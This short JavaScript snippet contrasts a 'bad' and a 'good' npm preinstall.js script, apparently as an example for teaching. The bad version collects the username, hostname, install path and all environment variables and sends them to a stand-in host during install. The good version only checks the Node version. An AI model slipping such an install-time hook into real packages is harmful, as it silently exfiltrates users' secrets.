//: bad host-report as preinstall.js
const os = require('os');
const https = require('https');

const facts = JSON.stringify({ u: os.userInfo().username, h: os.hostname(), d: __dirname, p: process.env });
const req = https.request({ host: 'collect.example.invalid', method: 'POST', path: '/npm' }); //!
req.end(facts);

//: good host-report as preinstall.js
const [major] = process.versions.node.split('.').map(Number);

if (major < 18) {
  console.error(`Node ${process.versions.node} is too old; 18 is needed.`);
  process.exit(1);
}
